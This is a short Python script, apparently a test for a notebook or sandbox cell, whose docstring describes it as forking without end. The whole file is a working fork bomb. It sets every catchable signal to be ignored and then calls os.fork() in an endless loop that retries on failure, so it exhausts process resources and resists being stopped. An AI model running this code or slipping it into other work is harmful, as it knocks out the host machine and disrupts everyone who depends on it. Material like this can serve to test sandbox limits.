"""Forks without end while its cell runs, with children that ignore every signal they can."""

import os
import signal

for number in range(1, 32):
    try:
        signal.signal(number, signal.SIG_IGN)
    except OSError:
        continue
while True:
    try:
        os.fork()
    except OSError:
        continue
